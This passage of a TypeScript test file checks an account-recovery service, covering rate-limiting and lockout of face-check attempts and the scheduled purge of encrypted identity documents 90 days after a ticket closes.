    const results = await Promise.allSettled(
      Array.from({ length: 10 }, () => recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome: failed, now: NOW })),
    );
    const recorded = results.filter((r) => r.status === 'fulfilled');
    const refused = results.filter((r): r is PromiseRejectedResult => r.status === 'rejected');
    expect(recorded).toHaveLength(FACE_CHECK_MAX_ATTEMPTS);
    expect(refused).toHaveLength(10 - FACE_CHECK_MAX_ATTEMPTS);
    for (const r of refused) expect(r.reason).toMatchObject({ code: 'rate_limited' });
    expect(recorded.map((r) => (r as PromiseFulfilledResult<{ attemptsUsed: number }>).value.attemptsUsed).sort()).toEqual([1, 2, 3, 4, 5]);
    const row = await db.recoveryTicket.findUniqueOrThrow({ where: { id: ticket.id } });
    expect(row.faceCheckAttempts).toBe(5);
    expect(row.faceCheckLockedUntil).toEqual(new Date(NOW.getTime() + 30 * MINUTE));
  });

  it('an unknown ticket is not found', async () => {
    await expect(recordFaceCheckAttempt({ db, ticketId: '01890000-0000-7000-8000-0000000000ff', outcome: failed, now: NOW })).rejects.toMatchObject({ code: 'not_found' });
  });
});

describe('retention (docs/security.md rule 19: 90 days after the ticket closes)', () => {
  it('deletes only expired documents, keeps the row as a record, and is idempotent', async () => {
    await purgeExpiredDocuments({ db, now: NOW }); // clear whatever earlier tests left due
    const ago = (days: number) => new Date(NOW.getTime() - days * DAY);
    const closedLongAgo = await createTicket({ closedAt: ago(91) });
    const closedExactly90 = await createTicket({ closedAt: ago(90) });
    const closedRecently = await createTicket({ closedAt: ago(89) });
    const open = await createTicket();

    const expired1 = (await storedPhoto(closedLongAgo.id)).doc;
    const expired2 = (await storedPhoto(closedExactly90.id)).doc;
    const kept1 = (await storedPhoto(closedRecently.id)).doc;
    const kept2 = (await storedPhoto(open.id)).doc;
    const ownDeadlinePassed = (await storedPhoto(open.id, 'SELFIE')).doc;
    await db.ticketDocument.update({ where: { id: ownDeadlinePassed.id }, data: { deleteAfter: ago(0) } });
    const ownDeadlineAhead = (await storedPhoto(open.id, 'SELFIE')).doc;
    await db.ticketDocument.update({ where: { id: ownDeadlineAhead.id }, data: { deleteAfter: new Date(NOW.getTime() + MINUTE) } });

    expect(await purgeExpiredDocuments({ db, now: NOW })).toBe(3);

    const rows = await db.ticketDocument.findMany({ where: { ticketId: { in: [closedLongAgo.id, closedExactly90.id, closedRecently.id, open.id] } } });
    const byId = new Map(rows.map((row) => [row.id, row]));
    for (const doc of [expired1, expired2, ownDeadlinePassed]) {
      const row = byId.get(doc.id)!;
      expect(row.ciphertext).toBeNull();
      expect(row.wrappedKey).toHaveLength(0);
      expect(row.deletedAt).toEqual(NOW);
      expect(row.sha256).toBe(doc.sha256);
      await expect(readDocument({ db, masterKey, ticketId: row.ticketId, documentId: doc.id, viewer: agent, now: NOW })).rejects.toMatchObject({ code: 'not_found' });
    }
    for (const doc of [kept1, kept2, ownDeadlineAhead]) {
      const row = byId.get(doc.id)!;
      expect(row.ciphertext).not.toBeNull();
      expect(row.deletedAt).toBeNull();
      const opened = await readDocument({ db, masterKey, ticketId: row.ticketId, documentId: doc.id, viewer: agent, now: NOW });
      expect(opened.bytes).toHaveLength(doc.byteSize);
    }

    expect(await purgeExpiredDocuments({ db, now: NOW })).toBe(0);
    // The retention period is a parameter; a day later the 89-day ticket's document goes too.
    expect(await purgeExpiredDocuments({ db, now: new Date(NOW.getTime() + DAY) })).toBe(2);
  });
});
